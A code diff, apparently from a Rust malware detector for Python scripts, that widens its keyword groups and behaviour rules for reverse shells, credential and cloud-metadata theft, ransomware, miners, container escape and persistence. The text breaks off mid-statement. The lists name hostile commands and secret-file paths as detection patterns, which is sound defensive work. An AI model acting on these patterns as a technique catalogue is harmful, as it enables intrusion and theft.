@@ -14,7 +14,7 @@ use crate::decode::{self, LayerKind};
 use crate::lexer::{Lexer, Tok};
 
 /// Version tag of the feature definition. Bump on any change that alters feature values.
-pub const FEATURE_SET_VERSION: &str = "ward-python-features/2";
+pub const FEATURE_SET_VERSION: &str = "ward-python-features/3";
 /// Number of bits of the hashed feature space.
 pub const HASH_BITS: u32 = 18;
 /// Size of the hashed feature space.
@@ -123,6 +123,11 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             ".connect((",
             "af_inet",
             "sock_stream",
+            "open_connection(",
+            "wrap_socket(",
+            "websocket",
+            "socketserver",
+            "af_unix",
         ],
     ),
     (
@@ -142,6 +147,16 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             "cmd.exe",
             "/bin/zsh",
             "'-i'",
+            "\"-i\"",
+            "bash -li",
+            "pty.fork",
+            "exec:'bash",
+            "exec:bash",
+            "exec:/bin",
+            "execl('/bin",
+            "execl(\"/bin",
+            "execv('/bin",
+            "execv(\"/bin",
         ],
     ),
     (
@@ -160,6 +175,14 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             "downloadfile",
             "downloadstring",
             "invoke-webrequest",
+            "'curl'",
+            "\"curl\"",
+            "'wget'",
+            "\"wget\"",
+            "iter_content(",
+            "getresponse()",
+            "iwr ",
+            "tftp ",
         ],
     ),
     (
@@ -167,6 +190,7 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
         "makes a file executable (chmod)",
         &[
             "chmod", "0o755", "0o777", "0o700", "0755", "0777", "s_ixusr", "s_irwxu", "+x ",
+            "s_iexec", "'+x'", "\"+x\"",
         ],
     ),
     (
@@ -199,6 +223,10 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             "iam/security-credentials",
             "metadata/instance",
             "metadata/identity",
+            "169.254.170.2",
+            "aws_container_credentials",
+            "/latest/user-data",
+            "ram/security-credentials",
         ],
     ),
     (
@@ -237,6 +265,19 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             "minergate",
             "--coin",
             "rx/0",
+            "stratum",
+            "t-rex",
+            "lolminer",
+            "nbminer",
+            "ethash",
+            "kawpow",
+            "daggerhashimoto",
+            "minerd",
+            "max-threads-hint",
+            "cpu-max-threads",
+            "mining.subscribe",
+            "mining.authorize",
+            "monero",
         ],
     ),
     (
@@ -277,12 +318,22 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
     (
         "cron",
         "installs a cron job",
-        &["crontab", "/etc/cron", "/var/spool/cron", "@reboot"],
+        &[
+            "crontab",
+            "/etc/cron",
+            "/var/spool/cron",
+            "@reboot",
+            "every_reboot",
+            "* * * * *",
+            "*/5 * * * *",
+            "*/10 * * * *",
+            "'at', 'now'",
+        ],
     ),
     (
         "ssh_keys",
         "touches SSH authorized_keys",
-        &["authorized_keys"],
+        &["authorized_keys", "sshd_config", "permitrootlogin"],
     ),
     (
         "systemd",
@@ -295,6 +346,13 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             "rc.local",
             "[install]",
             "wantedby=",
+            "systemctl --user",
+            "'--user', 'enable'",
+            "update-rc.d",
+            "chkconfig",
+            ".config/autostart",
+            "autostart-enabled",
+            "[desktop entry]",
         ],
     ),
     (
@@ -307,6 +365,12 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             "ld.so.preload",
             "/etc/profile",
             "ld_preload",
+            "sitecustomize",
+            "usercustomize",
+            ".pth'",
+            ".pth\"",
+            "getsitepackages",
+            "/etc/environment",
         ],
     ),
     (
@@ -366,6 +430,13 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             "method=\"post\"",
             "data=",
             "sendto(",
+            "storbinary",
+            "send_message(",
+            "sendmail(",
+            "sendphoto",
+            "senddocument",
+            "files={",
+            "requests.put",
         ],
     ),
     (
@@ -379,6 +450,11 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             "/dev/tcp/",
             "nc -e",
             "ncat ",
+            "socat ",
+            "busybox ",
+            "'-e', '/bin",
+            "| python",
+            "|python",
             "mkfifo",
             "bash -c",
             "sh -c",
@@ -519,6 +595,389 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             "apparmor",
             "kill -9",
             "pkill",
+            "journalctl --vacuum",
+            "/var/log/wtmp",
+            "/var/log/btmp",
+            "/var/run/utmp",
+            "/var/log/lastlog",
+            "histfile",
+            "falcon-sensor",
+            "auditd",
+            "aliyun",
+            "qcloud",
+        ],
+    ),
+    (
+        "netread",
+        "reads data or commands from a network peer",
+        &[
+            "recv(",
+            "recvfrom(",
+            "recv_into(",
+            ".makefile(",
+            "rfile",
+            "readuntil(",
+            "await reader",
+            ".readline()",
+        ],
+    ),
+    (
+        "shell_str",
+        "runs a string through the shell",
+        &[
+            "shell=true",
+            "os.system(",
+            "os.popen(",
+            "getoutput(",
+            "getstatusoutput(",
+            "create_subprocess_shell",
+            "popen(",
+        ],
+    ),
+    (
+        "listen",
+        "listens for inbound connections",
+        &[
+            ".bind((",
+            ".listen(",
+            ".accept()",
+            "tcpserver",
+            "serve_forever",
+            "bind(('",
+        ],
+    ),
+    (
+        "environ_all",
+        "takes the whole environment (not one variable)",
+        &[
+            "environ.items",
+            "environ.copy",
+            "dict(os.environ",
+            "dumps(os.environ",
+            "str(os.environ",
+            "environ.keys",
+            "in os.environ:",
+            "printenv",
+            "environ)",
+        ],
+    ),
+    (
+        "cloud_secrets",
+        "reaches cloud / CI secrets (secret stores, credential files, token variables)",
+        &[
+            "secretsmanager",
+            "get_secret_value",
+            "list_secrets",
+            "get_parameters",
+            "google_application_credentials",
+            "legacy_credentials",
+            "accesstokens.json",
+            "credentials.db",
+            "adc.json",
+            ".vault-token",
+            "vault_token",
+            "github_token",
+            "npm_token",
+            "aws_session_token",
+            "secretaccesskey",
+            "accesskeyid",
+            ".terraformrc",
+            "/api/v1/secrets",
+        ],
+    ),
+    (
+        "clipboard",
+        "reads or replaces clipboard contents",
+        &["pyperclip", "clipboard", "xclip", "xsel ", "pbpaste"],
+    ),
+    (
+        "wallet_re",
+        "matches or embeds cryptocurrency wallet addresses",
+        &[
+            "bc1q",
+            "(bc1|",
+            "0x[a-fa-f0-9]{40}",
+            "[13][a-km-z",
+            "[13][a-za-hj-np-z",
+            "bitcoin",
+            "ethereum",
+            "metamask",
+            "exodus",
+            "electrum",
+            "seed phrase",
+            "mnemonic",
+        ],
+    ),
+    (
+        "encrypt",
+        "encrypts data",
+        &[
+            "fernet(",
+            "aes.new",
+            ".encrypt(",
+            "encrypt_and_digest",
+            "chacha20",
+            "cipher(",
+        ],
+    ),
+    (
+        "walk",
+        "walks the file system",
+        &["os.walk", "rglob(", "scandir(", "glob.glob(", "listdir("],
+    ),
+    (
+        "destroy",
+        "deletes or overwrites data in bulk",
+        &[
+            "shutil.rmtree",
+            "rm -rf",
+            "dd if=",
+            "shred ",
+            "mkfs",
+            "wipefs",
+            "of=/dev/sd",
+            "of=/dev/nvme",
+        ],
+    ),
+    (
+        "web_input",
+        "takes input from an HTTP request",
+        &[
+            "parse_qs(",
+            "request.args",
+            "request.form",
+            "request.values",
+            "query_params",
+            "environ['query_string']",
+        ],
+    ),
+    (
+        "sys_targets",
+        "targets system data (databases, home directories, block devices)",
+        &[
+            "/var/lib/mysql",
+            "/var/lib/postgresql",
+            "'/home'",
+            "/home/*",
+            "/root/*",
+            "'/var/lib'",
+            "/dev/sd",
+            "/dev/nvme",
+            "/dev/vd",
+            "--no-preserve-root",
+            "sysrq-trigger",
+        ],
+    ),
+    (
+        "delete",
+        "deletes files",
+        &["os.remove(", "os.unlink(", ".unlink("],
+    ),
+    (
+        "pubkey",
+        "embeds an SSH public key",
+        &[
+            "ssh-rsa aaaa",
+            "ssh-ed25519 aaaa",
+            "ecdsa-sha2-nistp256 aaaa",
+        ],
+    ),
+    (
+        "append",
+        "appends to a file",
+        &["'a')", "\"a\")", "'ab')", "\"ab\")", ">> ", ">>/", "'a+')"],
+    ),
+    (
+        "ransom_note",
+        "ransom-note wording (pay, decrypt, BTC)",
+        &[
+            "your files",
+            "are encrypted",
+            "to decrypt",
+            "how_to_decrypt",
+            "readme_restore",
+            " btc",
+            "ransom",
+            ".onion",
+            "tutanota",
+            "recover your",
+            ".locked",
+        ],
+    ),
+    (
+        "spy",
+        "captures keystrokes, screen or camera",
+        &[
+            "pynput",
+            "keyboard.listener",
+            "on_press",
+            "getasynckeystate",
+            "setwindowshookex",
+            "pyhook",
+            "imagegrab",
+            "pyautogui.screenshot",
+            "mss(",
+            "videocapture(",
+        ],
+    ),
+    (
+        "account",
+        "creates or modifies user accounts",
+        &["useradd", "adduser", "usermod", "crypt.crypt", "net user "],
+    ),
+    (
+        "root_account",
+        "grants root: uid-0 users, passwordless sudo, root SSH login, password resets",
+        &[
+            "'-u', '0'",
+            "-u 0 ",
+            "-o -u",
+            "nopasswd",
+            "/etc/sudoers",
+            "permitrootlogin yes",
+            "chpasswd",
+        ],
+    ),
+    (
+        "win_persist",
+        "Windows autorun persistence (Run key, Startup folder, scheduled task, shortcuts)",
+        &[
+            "currentversion\\run",
+            "setvalueex",
+            "schtasks",
+            "\\startup",
+            "'startup'",
+            "winlogon",
+            "reg add",
+        ],
+    ),
+    (
+        "win_shortcut",
+        "edits Windows shortcuts or Start-menu entries",
+        &["start menu", "wscript.shell", "createshortcut", ".lnk"],
+    ),
+    (
+        "revshell_cmd",
+        "reverse-shell command line (/dev/tcp, nc -e, socat exec, mkfifo relay)",
+        &[
+            "/dev/tcp/",
+            "/dev/udp/",
+            "nc -e",
+            "ncat -e",
+            "nc -c ",
+            "'-e', '/bin",
+            "\"-e\", \"/bin",
+            "exec:'bash",
+            "exec:bash",
+            "exec:/bin",
+            "mkfifo",
+            "0>&1",
+        ],
+    ),
+    (
+        "secret_files",
+        "names private keys, credential stores or shell histories",
+        &[
+            ".ssh/id_",
+            "id_rsa",
+            "id_ed25519",
+            "~/.ssh'",
+            "'.ssh'",
+            ".aws/credentials",
+            "~/.aws'",
+            "'.aws'",
+            "/etc/shadow",
+            "/etc/passwd",
+            ".docker/config.json",
+            ".kube/config",
+            ".git-credentials",
+            ".netrc",
+            "login data",
+            ".pgpass",
+            ".npmrc",
+            ".pypirc",
+            "discord/local storage",
+            "local storage/leveldb",
+            "logins.json",
+            "key4.db",
+            "wallet.dat",
+            "bash_history",
+            "zsh_history",
+            "mysql_history",
+            "/root/.ssh",
+        ],
+    ),
+    (
+        "meta_creds",
+        "instance-metadata credential or user-data paths",
+        &[
+            "security-credentials",
+            "service-accounts/default/token",
+            "identity/oauth2/token",
+            "169.254.170.2",
+            "/latest/user-data",
+            "aws_container_credentials",
+        ],
+    ),
+    (
+        "binary_blob",
+        "embeds an executable (ELF/PE header in base64 or hex)",
+        &["f0vmrg", "tvqqaa", "7f454c46", "\\x7felf"],
+    ),
+    (
+        "escape",
+        "container escape or host takeover (docker.sock, nsenter, cgroup release_agent, kubelet)",
+        &[
+            "docker.sock",
+            "/containers/create",
+            "'privileged'",
+            "\"privileged\"",
+            "hostpid",
+            "nsenter",
+            "release_agent",
+            "notify_on_release",
+            "-t cgroup",
+            "/proc/1/ns",
+            "chroot /host",
+            "'/host'",
+            ":10250",
+            "connect_get_namespaced_pod_exec",
+            "core_pattern",
+            "load_incluster_config",
+        ],
+    ),
+    (
+        "spread",
+        "lateral movement (SSH to many hosts, password spraying, Redis/cron abuse, scanning)",
+        &[
+            "stricthostkeychecking=no",
+            "batchmode=yes",
+            "autoaddpolicy",
+            "known_hosts",
+            "ip_network(",
+            "connect_ex(",
+            "sshpass",
+            "masscan",
+            "config set dir",
+            "config set dbfilename",
+            "exec_command(",
+        ],
+    ),
+    (
+        "hide",
+        "disguises or hides the process (kernel-thread names, self-deletion)",
+        &[
+            "[kworker",
+            "[kthreadd",
+            "kworkerd",
+            "pr_set_name",
+            "prctl(15",
+            "remove(__file__",
+            "sys.argv[0])",
+            "unlink(__file__",
+            "hidden=true",
+            "/dev/null 2>&1 &",
+            ">/dev/null 2>&1 &",
         ],
     ),
 ];
@@ -567,6 +1026,70 @@ const COMBOS: &[(&str, &str)] = &[
         "c:fetch_run",
         "downloads a file and runs or marks it executable",
     ),
+    ("c:remote_cmd", "runs commands received over the network"),
+    (
+        "c:bind_shell",
+        "listens for connections and runs commands or a shell",
+    ),
+    ("c:env_dump_send", "sends the whole environment out"),
+    (
+        "c:secret_send",
+        "reads secrets or credentials and sends them out",
+    ),
+    (
+        "c:ransom",
+        "walks files, encrypts and deletes them (ransomware)",
+    ),
+    ("c:wipe", "wipes data in bulk"),
+    (
+        "c:clipper",
+        "swaps cryptocurrency addresses in the clipboard",
+    ),
+    (
+        "c:spy_send",
+        "captures keystrokes/screen and sends them out",
+    ),
+    (
+        "c:persist_payload",
+        "installs persistence that fetches or runs a payload",
+    ),
+    ("c:escape", "container escape or host takeover"),
+    ("c:spread", "spreads to other hosts"),
+    (
+        "c:hide_run",
+        "hides the process or its traces while running commands",
+    ),
+    ("c:dl_exec_file", "downloads a file and executes it"),
+    ("c:ssh_backdoor", "adds an SSH key to authorized_keys"),
+    ("c:revshell_cmd", "runs a reverse-shell command line"),
+    (
+        "c:webshell",
+        "runs shell commands taken from an HTTP request",
+    ),
+    ("c:miner", "starts or talks to a cryptocurrency miner"),
+    (
+        "c:secret_file_send",
+        "reads private keys / credential files and sends them out",
+    ),
+    ("c:meta_creds", "fetches instance-metadata credentials"),
+    (
+        "c:drop_exec",
+        "writes an embedded or fetched executable and runs it",
+    ),
+    ("c:win_autorun", "installs Windows autorun persistence"),
+    (
+        "c:root_backdoor",
+        "creates a root-equivalent account or login",
+    ),
+    (
+        "c:any_behaviour",
+        "shows at least one malicious behaviour combination",
+    ),
+    ("s:behaviours", "number of malicious behaviour combinations"),
+    (
+        "s:nonascii_idents",
+        "non-ASCII identifiers (CJK/homoglyph names)",
+    ),
     ("s:layers", "number of decoded layers"),
     ("s:depth", "depth of nested encodings"),
     ("s:entropy", "high-entropy long string literal"),
@@ -579,7 +1102,23 @@ const COMBOS: &[(&str, &str)] = &[
     ),
     ("s:ip_host", "hard-coded IP address as a network peer"),
     ("s:ints_layer", "integer lists decode to text"),
+    (
+        "s:def_rate",
+        "function definitions per identifier (library-style code)",
+    ),
+    (
+        "s:self_rate",
+        "share of `self` among identifiers (object-oriented code)",
+    ),
+    (
+        "s:test_rate",
+        "test-code vocabulary (assert, mock, pytest, unittest)",
+    ),
+    ("s:indent_rate", "share of indented lines"),
 ];
+
+// Group membership is a 64-bit mask.
+const _: () = assert!(GROUPS.len() <= 64);
 
 /// Number of dense signals.
 pub const N_SIGNALS: usize = GROUPS.len() + COMBOS.len();
@@ -595,6 +1134,13 @@ pub fn signal_name(i: usize) -> String {
             .get(i - GROUPS.len())
             .map_or_else(|| "?".to_string(), |c| c.0.to_string())
     }
+}
+
+/// Index of the dense signal called `name` (e.g. `c:revshell`); panics on an unknown name.
+pub fn signal_index(name: &str) -> u32 {
+    (0..N_SIGNALS)
+        .find(|&i| signal_name(i) == name)
+        .expect("known signal name") as u32
 }
 
 /// Human description of dense signal `i`.
@@ -684,12 +1230,19 @@ struct Patterns {
 fn patterns() -> &'static Patterns {
     static P: OnceLock<Patterns> = OnceLock::new();
     P.get_or_init(|| {
-        let mut pats = Vec::new();
+        let mut pats: Vec<String> = Vec::new();
         let mut group_of = Vec::new();
         for (gi, (_, _, ps)) in GROUPS.iter().enumerate() {
             for p in *ps {
-                pats.push(*p);
-                group_of.push(gi as u8);
+                // Python quotes either way: a pattern written with ' also matches with " and
+                // the other way round.
+                let start = pats.len();
+                for q in [p.to_string(), p.replace('\'', "\""), p.replace('"', "'")] {
+                    if !pats[start..].contains(&q) {
+                        pats.push(q);
+                        group_of.push(gi as u8);
+                    }
+                }
             }
         }
         let ac = AhoCorasick::builder()
@@ -701,13 +1254,302 @@ fn patterns() -> &'static Patterns {
     })
 }
 
-fn group_bits(text: &[u8]) -> u64 {
-    let p = patterns();
-    let mut bits = 0u64;
-    for m in p.ac.find_iter(text) {
-        bits |= 1u64 << p.group_of[m.pattern().as_usize()];
+const fn str_eq(a: &str, b: &str) -> bool {
+    let (a, b) = (a.as_bytes(), b.as_bytes());
+    if a.len() != b.len() {
+        return false;
     }
-    bits
+    let mut i = 0;
+    while i < a.len() {
+        if a[i] != b[i] {
+            return false;
+        }
+        i += 1;
+    }
+    true
+}
+
+/// Bit of group `name` in a group mask (compile-time lookup; an unknown name fails the build).
+const fn gb(name: &str) -> u64 {
+    let mut i = 0;
+    while i < GROUPS.len() {
+        if str_eq(GROUPS[i].0, name) {
+            return 1u64 << i;
+        }
+        i += 1;
+    }
+    panic!("unknown group")
+}
+
+/// Bit of combination `name` in a combination mask (index into [`COMBOS`]).
+const fn cb(name: &str) -> u64 {
+    let mut i = 0;
+    while i < COMBOS.len() {
+        if str_eq(COMBOS[i].0, name) {
+            return 1u64 << i;
+        }
+        i += 1;
+    }
+    panic!("unknown combination")
+}
+
+// Combination membership is a 64-bit mask too.
+const _: () = assert!(COMBOS.len() <= 64);
+
+/// Neighbourhood for behaviour combinations: two adjacent chunks of this many bytes.
+pub const CHUNK: usize = 1024;
+
+/// Behaviour combinations present in one neighbourhood with group mask `m`.
+fn local_combos(m: u64) -> u64 {
+    let any = |mask: u64| m & mask != 0;
+    let all = |mask: u64| m & mask == mask;
+    const SOCKET: u64 = gb("socket");
+    const DUP2: u64 = gb("dup2");
+    const SHELL: u64 = gb("shell");
+    const RUN: u64 = gb("run");
+    const EXEC: u64 = gb("exec");
+    const DOWNLOAD: u64 = gb("download");
+    const CHMOD: u64 = gb("chmod");
+    const SEND: u64 = gb("send") | gb("webhook");
+    const PIPE_SHELL: u64 = gb("pipe_shell");
+    const MEMFD: u64 = gb("memfd");
+    const SHELL_STR: u64 = gb("shell_str");
+    const PERSIST: u64 = gb("cron") | gb("systemd") | gb("shellrc") | gb("win_persist");
+    let mut out = 0u64;
+    let mut set = |c: u64, v: bool| {
+        if v {
+            out |= c;
+        }
+    };
+    set(
+        const { cb("c:revshell") },
+        any(SOCKET) && any(DUP2 | SHELL) && any(RUN | DUP2 | SHELL),
+    );
+    set(
+        const { cb("c:dl_chmod_exec") },
+        any(DOWNLOAD) && any(CHMOD) && any(RUN | EXEC),
+    );
+    set(
+        const { cb("c:env_exfil") },
+        any(const { gb("environ") }) && any(SEND),
+    );
+    set(
+        const { cb("c:cred_exfil") },
+        any(const { gb("creds") }) && any(SEND),
+    );
+    set(
+        const { cb("c:meta_send") },
+        any(const { gb("metadata") } | const { gb("k8s_token") }) && any(SEND | SOCKET),
+    );
+    set(
+        const { cb("c:persist_run") },
+        any(PERSIST | const { gb("ssh_keys") }) && any(RUN | DOWNLOAD),
+    );
+    set(
+        const { cb("c:detached_run") },
+        all(const { gb("detach") }) && any(RUN),
+    );
+    set(
+        const { cb("c:exec_remote") },
+        any(DOWNLOAD) && any(EXEC | PIPE_SHELL),
+    );
+    set(const { cb("c:socket_run") }, any(SOCKET) && any(RUN | EXEC));
+    set(
+        const { cb("c:fetch_run") },
+        any(DOWNLOAD) && any(RUN | CHMOD | MEMFD),
+    );
+    set(
+        const { cb("c:remote_cmd") },
+        (any(const { gb("netread") }) && any(SHELL_STR | RUN | EXEC) && any(SOCKET | SEND))
+            || (any(DOWNLOAD) && any(SHELL_STR) && any(SEND)),
+    );
+    set(
+        const { cb("c:revshell_cmd") },
+        any(const { gb("revshell_cmd") }) && any(RUN | SHELL_STR | SHELL | PERSIST),
+    );
+    set(
+        const { cb("c:miner") },
+        any(const { gb("mining") })
+            && any(RUN | SHELL_STR | SOCKET | DOWNLOAD | const { gb("detach") }),
+    );
+    set(
+        const { cb("c:secret_file_send") },
+        any(const { gb("secret_files") }) && any(SEND | SOCKET | DOWNLOAD),
+    );
+    set(
+        const { cb("c:meta_creds") },
+        any(const { gb("meta_creds") }) && any(DOWNLOAD | SEND | SOCKET),
+    );
+    set(
+        const { cb("c:drop_exec") },
+        (any(const { gb("binary_blob") }) && any(CHMOD | RUN | MEMFD))
+            || (any(DOWNLOAD | const { gb("decode") })
+                && any(CHMOD)
+                && any(RUN | SHELL_STR)
+                && any(const { gb("tmpdrop") })),
+    );
+    set(
+        const { cb("c:win_autorun") },
+        any(const { gb("win_persist") }),
+    );
+    set(
+        const { cb("c:webshell") },
+        any(const { gb("web_input") }) && any(SHELL_STR | EXEC),
+    );
+    set(
+        const { cb("c:bind_shell") },
+        any(const { gb("listen") }) && any(SHELL | DUP2 | SHELL_STR),
+    );
+    set(
+        const { cb("c:env_dump_send") },
+        any(const { gb("environ_all") }) && any(SEND | SOCKET | DOWNLOAD),
+    );
+    set(
+        const { cb("c:secret_send") },
+        any(const { gb("cloud_secrets") } | const { gb("metadata") } | const { gb("k8s_token") })
+            && any(SEND | SOCKET),
+    );
+    set(
+        const { cb("c:ransom") },
+        any(const { gb("encrypt") })
+            && any(const { gb("walk") } | const { gb("ransom_note") })
+            && any(const { gb("delete") } | const { gb("destroy") } | const { gb("ransom_note") }),
+    );
+    set(
+        const { cb("c:wipe") },
+        any(const { gb("destroy") } | const { gb("delete") }) && any(const { gb("sys_targets") }),
+    );
+    set(
+        const { cb("c:clipper") },
+        all(const { gb("clipboard") } | const { gb("wallet_re") }),
+    );
+    set(
+        const { cb("c:spy_send") },
+        any(const { gb("spy") }) && any(SEND | SOCKET),
+    );
+    set(
+        const { cb("c:persist_payload") },
+        any(PERSIST) && any(DOWNLOAD | PIPE_SHELL | SOCKET | SHELL | EXEC),
+    );
+    set(
+        const { cb("c:escape") },
+        any(const { gb("escape") }) && any(RUN | PIPE_SHELL | SHELL | SOCKET | SHELL_STR),
+    );
+    set(
+        const { cb("c:spread") },
+        any(const { gb("spread") }) && any(PIPE_SHELL | DOWNLOAD | const { gb("creds") }),
+    );
+    set(
+        const { cb("c:hide_run") },
+        any(const { gb("hide") } | const { gb("kill_av") }) && any(RUN | SHELL_STR),
+    );
+    set(
+        const { cb("c:dl_exec_file") },
+        any(DOWNLOAD) && any(CHMOD | MEMFD) && any(RUN | SHELL_STR),
+    );
+    set(
+        const { cb("c:ssh_backdoor") },
+        any(const { gb("ssh_keys") }) && any(const { gb("pubkey") } | const { gb("append") }),
+    );
+    set(
+        const { cb("c:root_backdoor") },
+        any(const { gb("root_account") })
+            && any(const { gb("account") } | SHELL_STR | RUN | const { gb("append") }),
+    );
+    out
+}
+
+/// Behaviour combinations specific enough to count as evidence on their own.
+const STRONG_COMBOS: u64 = cb("c:revshell")
+    | cb("c:dl_chmod_exec")
+    | cb("c:meta_send")
+    | cb("c:persist_run")
+    | cb("c:exec_remote")
+    | cb("c:remote_cmd")
+    | cb("c:bind_shell")
+    | cb("c:env_dump_send")
+    | cb("c:secret_send")
+    | cb("c:ransom")
+    | cb("c:wipe")
+    | cb("c:clipper")
+    | cb("c:spy_send")
+    | cb("c:persist_payload")
+    | cb("c:escape")
+    | cb("c:spread")
+    | cb("c:hide_run")
+    | cb("c:dl_exec_file")
+    | cb("c:ssh_backdoor")
+    | cb("c:root_backdoor")
+    | cb("c:revshell_cmd")
+    | cb("c:miner")
+    | cb("c:secret_file_send")
+    | cb("c:meta_creds")
+    | cb("c:drop_exec")
+    | cb("c:win_autorun")
+    | cb("c:webshell");
+
+/// Chunks in the region whose groups become the dense group signals of a script.
+pub const GROUP_REGION_CHUNKS: usize = 8;
+
+/// Pattern groups of one text.
+struct LayerGroups {
+    /// Every group present.
+    all: u64,
+    /// Behaviour combinations found in any neighbourhood (two adjacent [`CHUNK`]-byte chunks).
+    combos: u64,
+    /// Groups of the region of [`GROUP_REGION_CHUNKS`] chunks that holds the most groups.
+    region: u64,
+}
+
+fn group_bits_local(text: &[u8]) -> LayerGroups {
+    let p = patterns();
+    let mut out = LayerGroups {
+        all: 0,
+        combos: 0,
+        region: 0,
+    };
+    let mut chunk = usize::MAX;
+    let mut prev = 0u64;
+    let mut cur = 0u64;
+    let mut last_eval = 0u64;
+    let mut recent: VecDeque<(usize, u64)> = VecDeque::with_capacity(GROUP_REGION_CHUNKS + 1);
+    let mut close = |c: usize, prev: u64, cur: u64, last_eval: &mut u64, out: &mut LayerGroups| {
+        if prev | cur != *last_eval {
+            *last_eval = prev | cur;
+            out.combos |= local_combos(*last_eval);
+        }
+        recent.push_back((c, cur));
+        while recent
+            .front()
+            .is_some_and(|f| f.0 + GROUP_REGION_CHUNKS <= c)
+        {
+            recent.pop_front();
+        }
+        let region = recent.iter().fold(0u64, |m, x| m | x.1);
+        if region.count_ones() > out.region.count_ones() {
+            out.region = region;
+        }
+    };
+    // Overlapping: `os.environ.items` must count for both `os.environ` and `environ.items`
+    // (reported in order of their end).
+    for m in p.ac.find_overlapping_iter(text) {
+        let c = (m.end() - 1) / CHUNK;
+        if c != chunk {
+            if chunk != usize::MAX {
+                close(chunk, prev, cur, &mut last_eval, &mut out);
+                prev = if c == chunk + 1 { cur } else { 0 };
+            }
+            chunk = c;
+            cur = 0;
+        }
+        let bit = 1u64 << p.group_of[m.pattern().as_usize()];
+        cur |= bit;
+        out.all |= bit;
+    }
+    if chunk != usize::MAX {
+        close(chunk, prev, cur, &mut last_eval, &mut out);
+    }
+    out
 }
 
 /// A sparse feature vector, sorted by index.
@@ -815,6 +1657,13 @@ struct Acc<'w> {
     max_events: usize,
     want: Option<(&'w [u32], HashMap<u32, String>)>,
     groups: u64,
+    top_idents: usize,
+    defs: usize,
+    selfs: usize,
+    tests: usize,
+    dense_groups: u64,
+    combos: u64,
+    nonascii_idents: usize,
     layer_code: bool,
     layer_any: bool,
     ints_layer: bool,
@@ -1033,6 +1882,13 @@ impl Extractor {
             max_events: lim.max_events,
             want: want.map(|w| (w, HashMap::new())),
             groups: 0,
+            top_idents: 0,
+            defs: 0,
+            selfs: 0,
+            tests: 0,
+            dense_groups: 0,
+            combos: 0,
+            nonascii_idents: 0,
             layer_code: false,
             layer_any: false,
             ints_layer: false,
@@ -1091,13 +1947,14 @@ impl Extractor {
         // Dense signals.
         let mut dense = [0f32; N_SIGNALS];
         for (i, d) in dense.iter_mut().enumerate().take(GROUPS.len()) {
-            if acc.groups & (1u64 << i) != 0 {
+            if acc.dense_groups & (1u64 << i) != 0 {
                 *d = 1.0;
             }
         }
         let g = |n: &str| acc.groups & (1u64 << group(n)) != 0;
         let b = |x: bool| if x { 1.0 } else { 0.0 };
         let set = |d: &mut [f32; N_SIGNALS], n: &str, v: f32| d[combo(n)] = v.clamp(0.0, 1.0);
+        // Whole-script combinations (obfuscation and setup-script context).
         set(
             &mut dense,
             "c:exec_decoded",
@@ -1105,31 +1962,6 @@ impl Extractor {
         );
         set(&mut dense, "c:layer_code", b(acc.layer_code));
         set(&mut dense, "c:layer_any", b(acc.layer_any));
-        set(
-            &mut dense,
-            "c:revshell",
-            b(g("socket") && (g("dup2") || g("shell")) && (g("run") || g("dup2") || g("shell"))),
-        );
-        set(
-            &mut dense,
-            "c:dl_chmod_exec",
-            b(g("download") && g("chmod") && (g("run") || g("exec"))),
-        );
-        set(
-            &mut dense,
-            "c:env_exfil",
-            b(g("environ") && (g("send") || g("webhook"))),
-        );
-        set(
-            &mut dense,
-            "c:cred_exfil",
-            b(g("creds") && (g("send") || g("webhook"))),
-        );
-        set(
-            &mut dense,
-            "c:meta_send",
-            b((g("metadata") || g("k8s_token")) && (g("send") || g("webhook") || g("socket"))),
-        );
         set(
             &mut dense,
             "c:setup_hook_net",
@@ -1142,28 +1974,18 @@ impl Extractor {
             "c:setup_exec",
             b(g("setup") && (g("exec") || g("ps_evasive") || g("pipe_shell"))),
         );
-        set(
-            &mut dense,
-            "c:persist_run",
-            b((g("cron") || g("systemd") || g("ssh_keys") || g("shellrc"))
-                && (g("run") || g("download"))),
-        );
-        set(&mut dense, "c:detached_run", b(g("detach") && g("run")));
-        set(
-            &mut dense,
-            "c:exec_remote",
-            b(g("download") && (g("exec") || g("pipe_shell"))),
-        );
-        set(
-            &mut dense,
-            "c:socket_run",
-            b(g("socket") && (g("run") || g("exec"))),
-        );
-        set(
-            &mut dense,
-            "c:fetch_run",
-            b(g("download") && (g("run") || g("chmod") || g("memfd"))),
-        );
+        // Behaviour combinations: the groups must co-occur within one neighbourhood of one text
+        // layer ([`local_combos`]), so that a large file does not assemble a behaviour from
+        // unrelated corners.
+        for (k, (name, _)) in COMBOS.iter().enumerate() {
+            if acc.combos & (1u64 << k) != 0 {
+                set(&mut dense, name, 1.0);
+            }
+        }
+        // Shared evidence: a behaviour no training example showed still counts through these.
+        let strong = (acc.combos & STRONG_COMBOS).count_ones();
+        set(&mut dense, "c:any_behaviour", b(strong > 0));
+        set(&mut dense, "s:behaviours", strong as f32 / 3.0);
         set(&mut dense, "s:layers", layers as f32 / 4.0);
         set(&mut dense, "s:depth", max_depth as f32 / 3.0);
         set(&mut dense, "s:entropy", (acc.max_entropy - 4.5) / 1.5);
@@ -1193,6 +2015,34 @@ impl Extractor {
             },
         );
         set(&mut dense, "s:ip_host", b(acc.ip_host));
+        if acc.top_idents >= 20 {
+            let n = acc.top_idents as f32;
+            set(&mut dense, "s:def_rate", acc.defs as f32 / n * 20.0);
+            set(&mut dense, "s:self_rate", acc.selfs as f32 / n * 5.0);
+            set(&mut dense, "s:test_rate", acc.tests as f32 / n * 20.0);
+        }
+        {
+            let text = &bytes[..bytes.len().min(lim.max_input)];
+            let (mut lines, mut indented) = (0usize, 0usize);
+            for l in text.split(|&c| c == b'\n') {
+                if l.iter().any(|c| !c.is_ascii_whitespace()) {
+                    lines += 1;
+                    indented += matches!(l.first(), Some(b' ' | b'\t')) as usize;
+                }
+            }
+            if lines >= 5 {
+                set(&mut dense, "s:indent_rate", indented as f32 / lines as f32);
+            }
+        }
+        set(
+            &mut dense,
+            "s:nonascii_idents",
